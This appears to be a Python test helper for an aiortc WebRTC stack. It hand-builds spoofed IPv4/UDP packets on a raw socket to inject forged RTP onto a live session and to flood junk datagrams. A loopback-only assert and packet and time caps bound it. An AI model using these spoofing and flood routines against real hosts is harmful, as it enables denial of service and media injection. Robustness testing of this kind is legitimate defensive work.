"""Forged SRTP from a spoofed source: IPv4/UDP datagrams built by hand on a
raw socket, so they arrive on a live session's 5-tuple. Loopback only; the
loop is bounded in packets and time."""
import os
import random
import socket
import struct
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


def udp_datagram(src, sport, dst, dport, payload):
    assert dst.startswith("127.") and src.startswith("127.") or src == "192.0.2.2" and dst.startswith("127."), \
        "spoofing is for loopback only"
    length = 8 + len(payload)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 17, length)
    header = struct.pack("!HHHH", sport, dport, length, 0)
    csum = checksum(pseudo + header + payload) or 0xFFFF
    udp = struct.pack("!HHHH", sport, dport, length, csum) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), random.randrange(65536), 0, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + udp


def forged_rtp(ssrc, size=172, payload_type=111):
    header = struct.pack("!BBHII", 0x80, payload_type, random.randrange(65536),
                         random.randrange(1 << 32), ssrc)
    return header + os.urandom(size - len(header))


def flood(src, sport, dst, dport, ssrc, rate, seconds, size=172, max_packets=200000):
    """Sends forged RTP at `rate` packets/s; returns how many were sent."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    sent = 0
    start = time.monotonic()
    deadline = start + seconds
    try:
        while sent < max_packets:
            now = time.monotonic()
            if now >= deadline:
                break
            due = int((now - start) * rate)
            while sent < due and sent < max_packets:
                raw.sendto(udp_datagram(src, sport, dst, dport, forged_rtp(ssrc, size)), (dst, 0))
                sent += 1
            time.sleep(0.001)
    finally:
        raw.close()
    return sent


def live_sequence(sender):
    """The sequence number an aiortc RTCRtpSender used last (from its
    retransmission history: the entry with the newest timestamp)."""
    history = [p for p in sender._RTCRtpSender__rtp_history.values() if p is not None]
    if not history:
        return None
    ref = history[0].timestamp

    def age(packet):
        return ((packet.timestamp - ref + (1 << 31)) & 0xFFFFFFFF) - (1 << 31)

    newest = max(history, key=lambda p: (age(p), p.sequence_number))
    return newest.sequence_number


def junk_flood(dst, dport, rate, seconds, max_packets=100_000):
    """Off-path junk, no spoofing: datagrams no demultiplexer accepts, and
    SRTP-looking datagrams from 5-tuples no session owns, from ordinary
    sockets on many source ports. Returns how many were sent."""
    sockets = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(16)]
    sent = 0
    start = time.monotonic()
    try:
        while sent < max_packets and time.monotonic() - start < seconds:
            due = min(int((time.monotonic() - start) * rate), max_packets)
            while sent < due:
                s = sockets[sent % len(sockets)]
                if sent % 2:
                    payload = bytes([0x42]) + os.urandom(99)  # no RFC 7983 range
                else:
                    payload = forged_rtp(random.randrange(1 << 32), 120)
                s.sendto(payload, (dst, dport))
                sent += 1
            time.sleep(0.001)
    finally:
        for s in sockets:
            s.close()
    return sent

